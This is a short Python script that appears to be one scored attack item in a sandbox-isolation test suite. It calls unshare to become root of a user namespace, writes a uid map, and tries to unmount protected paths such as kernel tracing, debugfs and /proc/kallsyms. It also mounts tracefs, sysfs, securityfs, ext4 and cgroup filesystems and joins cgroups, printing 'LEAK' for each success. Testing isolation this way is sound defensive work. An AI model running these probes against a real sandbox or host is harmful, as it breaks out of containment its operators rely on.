# attack: Makes itself root of a user namespace and mounts, unmounts and uncovers.
# earns: 1.1 1.2 1.3 1.6 1.7 1.8
# scale: 0.2

import ctypes
import os
import time
from pathlib import Path

libc = ctypes.CDLL(None, use_errno=True)
uid = os.getresuid()[0]  # os.getuid() says 0 in the sandbox.
print("unshare", libc.unshare(0x10000000 | 0x00020000 | 0x02000000 | 0x08000000), flush=True)
try:
    Path("/proc/self/setgroups").write_text("deny")
    Path("/proc/self/uid_map").write_text(f"0 {uid} 1")
except OSError as error:
    print(error, flush=True)
for place in ("/sys/kernel/tracing/trace_pipe", "/sys/kernel/tracing", "/sys/kernel/debug/tracing",
              "/sys/kernel/debug", "/proc/kallsyms", "/lab", "/tmp", "/usr", "/dev"):
    if libc.umount2(place.encode(), 2) == 0:
        print("LEAK uncovered", place, flush=True)
for kind in ("tracefs", "debugfs", "proc", "sysfs", "cgroup", "cgroup2", "overlay", "bpf", "devpts",
             "securityfs", "ext4"):
    if libc.mount(kind.encode(), b"/tmp", kind.encode(), 0, None) == 0:
        print("mounted", kind, sorted(os.listdir("/tmp"))[:5], flush=True)
        if kind in ("tracefs", "debugfs", "securityfs", "ext4", "sysfs"):
            print("LEAK", kind, flush=True)
        libc.umount2(b"/tmp", 2)
if libc.mount(b"cgroup", b"/tmp", b"cgroup", 0, b"memory") == 0:
    for group in Path("/tmp").glob("**/cgroup.procs"):
        try:
            group.write_text(str(os.getpid()))
            print("LEAK cgroup", group, flush=True)
        except OSError:
            pass
